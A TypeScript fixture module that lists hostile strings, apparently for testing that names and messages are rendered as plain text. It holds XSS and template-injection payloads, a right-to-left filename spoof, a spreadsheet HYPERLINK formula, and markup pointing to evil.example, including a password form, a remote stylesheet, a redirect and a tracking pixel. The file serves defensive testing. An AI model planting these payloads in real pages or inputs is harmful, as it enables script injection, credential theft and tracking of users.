// Text that tries to be more than text: markup, scripts, addresses, templates, and letters that turn others around.

/** Short enough for a name; each sets `window.broken`, opens a dialog or asks another host, if it is ever more than text. */
export const HOSTILE_NAMES: readonly string[] = [
  '<img src=x onerror="window.broken=1">',
  '"><svg onload=window.broken=1>',
  "';window.broken=1;//",
  '<script>window.broken=1</script>',
  'javascript:window.broken=1',
  '{{constructor.constructor("window.broken=1")()}}',
  '${window.broken=1}',
  '</textarea></title><img src=x onerror=alert(1)>',
  'a\u202Etxt.exe \u2066b',
  '=HYPERLINK("https://evil.example","x")',
];

/** As long as a message may be. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...HOSTILE_NAMES,
  '<iframe srcdoc="<script>parent.broken=1</script>"></iframe>',
  '<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>',
  '<form action=https://evil.example><input name=password autofocus onfocus=window.broken=1>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.broken=1>',
  '[click](javascript:window.broken=1) ![x](https://evil.example/track.gif)',
  'data:text/html,<script>window.broken=1</script>',
  '&lt;script&gt;window.broken=1&lt;/script&gt; %3Cscript%3Ewindow.broken=1%3C/script%3E',
  `Z${'\u0335\u0489'.repeat(400)}algo`,
  `${'<b>'.repeat(500)}deep`,
  'x'.repeat(5_000),
  '__proto__ constructor prototype toString',
];
